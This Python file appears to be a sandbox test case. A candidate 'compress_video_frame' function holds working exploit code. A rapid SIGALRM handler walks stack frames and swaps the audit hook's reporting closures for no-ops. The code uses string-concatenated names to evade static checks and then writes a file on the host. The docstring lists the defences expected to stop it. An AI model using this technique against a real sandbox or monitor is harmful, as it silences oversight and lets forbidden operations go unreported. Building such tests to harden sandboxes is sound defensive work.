"""Attack: switch the tripwire off for good. A signal handler is handed the frame that was
running when its signal came, with no audit event; a timer firing every 100 microseconds
while the candidate provokes audit events (named tuples compile and evaluate a template)
catches the audit hook on the stack. The handler walks from that frame to the hook's and
swaps, in the closures of the functions it finds there, the cells holding the write and the
exit that report a violation for no-ops. Every later forbidden operation is then reported to
nobody and goes ahead: it opens a file for writing on the host.

Expected: rejected statically (`sys`, `f_back`, `f_locals`, `__closure__`). With static
validation off the handler may still see the hook's frame, but the hook keeps nothing there
that can be swapped: the open trips it (violation); seccomp kills the write-open, Landlock
refuses it and bubblewrap confines it.
"""
import collections
import lzma
import typing

import numpy as np

interpreter = typing.sys
signals = interpreter.modules["signal"]
real_open = lzma.compress.__globals__["_" * 2 + "builtins" + "_" * 2]["op" + "en"]
silenced, hook_frames_seen = [], []


def nothing(*args, **kwargs):
    return 0


def swap_the_reporter(number, frame):
    while frame is not None and not silenced:
        if frame.f_globals.get("_" * 2 + "name" + "_" * 2) == "tripwire":
            hook_frames_seen.append(frame)
        for value in list(frame.f_locals.values()):
            if type(value) is type(nothing) and value.__closure__:
                for cell in value.__closure__:
                    if callable(cell.cell_contents) and cell.cell_contents.__name__ in ("write", "_exit"):
                        cell.cell_contents = nothing
                        silenced.append(value)
        frame = frame.f_back


def compress_video_frame(frame, frame_index, config):
    signals.signal(signals.SIGALRM, swap_the_reporter)
    signals.setitimer(signals.ITIMER_REAL, 0.0001, 0.0001)
    for _ in range(5000):
        if silenced or len(hook_frames_seen) > 20:
            break
        collections.namedtuple("Provoke", "a b")
    signals.setitimer(signals.ITIMER_REAL, 0)
    handle = real_open(f"{config['target_dir']}/meaning_tripwire_unhook", "w")
    print("pwned", file=handle, flush=True)
    return b"ESCAPED:wrote a file"


def decompress_video_frame(data, frame_index, config):
    return np.zeros((config["height"], config["width"], 3), np.uint8)
